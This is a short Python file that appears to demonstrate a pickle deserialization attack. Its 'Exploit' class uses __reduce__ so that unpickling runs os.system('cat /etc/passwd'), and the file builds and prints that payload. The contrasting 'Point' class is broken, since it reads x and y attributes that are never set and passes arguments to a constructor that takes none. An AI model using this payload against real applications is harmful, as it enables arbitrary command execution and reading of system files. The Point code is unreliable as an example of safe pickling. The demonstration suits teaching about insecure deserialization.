import os
import pickle


class Exploit:
    def __reduce__(self):
        return (os.system, ("cat /etc/passwd",))


payload = pickle.dumps(Exploit())  # shown, never loaded
print(payload)


class Point:
    def __reduce__(self):
        return (Point, (self.x, self.y))


restored = pickle.loads(pickle.dumps(Point()))
